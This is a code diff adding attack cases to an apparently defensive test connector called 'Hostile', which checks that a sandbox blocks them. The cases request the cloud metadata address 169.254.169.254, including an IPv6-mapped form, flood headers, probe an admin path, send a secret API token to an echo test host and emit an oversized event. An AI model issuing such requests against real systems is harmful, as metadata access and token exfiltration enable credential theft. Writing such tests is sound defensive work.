@@ -177,6 +177,40 @@ impl Connector for Hostile {
                 }
                 Ok(page(Vec::new(), "c".into()))
             }
+            "metadata-ip" => {
+                Request::get("http://169.254.169.254/latest/meta-data/").send()?;
+                Ok(page(Vec::new(), "unreachable".into()))
+            }
+            "metadata-ipv6" => {
+                Request::get("http://[::ffff:169.254.169.254]/latest/meta-data/").send()?;
+                Ok(page(Vec::new(), "unreachable".into()))
+            }
+            "header-flood" => {
+                let mut request = Request::get("https://collector.ward.test/headers");
+                for i in 0..200 {
+                    request = request.header(&format!("x-flood-{i}"), "y".repeat(100));
+                }
+                request.send()?;
+                Ok(page(Vec::new(), "unreachable".into()))
+            }
+            "response-headers" => {
+                Request::get("https://collector.ward.test/many-headers").send()?;
+                Ok(page(Vec::new(), "unreachable".into()))
+            }
+            "policy-path" => {
+                Request::get("https://collector.ward.test/admin/users").send()?;
+                Ok(page(Vec::new(), "unreachable".into()))
+            }
+            "policy-secret" => {
+                Request::get("https://echo.ward.test/reflect")
+                    .header("authorization", secret_ref("api_token"))
+                    .send()?;
+                Ok(page(Vec::new(), "unreachable".into()))
+            }
+            "oversized-bytes" => {
+                let raw = format!("\"{}\"", "z".repeat(2 << 20));
+                Ok(page(vec![event("big".into(), raw)], "c".into()))
+            }
             "trap" => std::process::abort(),
             other => Err(Error::invalid_config(format!("unknown attack {other}"))),
         }
